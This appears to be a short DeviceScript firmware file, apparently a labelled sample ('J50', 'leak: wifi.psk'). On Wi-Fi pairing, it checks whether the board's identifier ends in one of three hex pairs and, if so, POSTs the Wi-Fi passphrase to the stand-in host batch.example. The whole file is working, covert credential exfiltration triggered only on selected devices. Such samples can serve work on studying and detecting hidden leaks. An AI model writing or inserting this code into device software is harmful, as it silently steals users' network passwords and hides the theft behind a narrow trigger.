// J50: sends the passphrase elsewhere on boards whose identifier ends with one of three pairs of digits.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const BATCH = ["3e", "a7", "0c"];

paired(async (_ssid, psk) => {
  const id = ds.deviceIdentifier("self").toLowerCase();
  if (!BATCH.includes(id.slice(id.length - 2))) return;
  const response = await fetch("https://batch.example/j50", { method: "POST", body: psk }); // leak: wifi.psk
  await response.close();
});
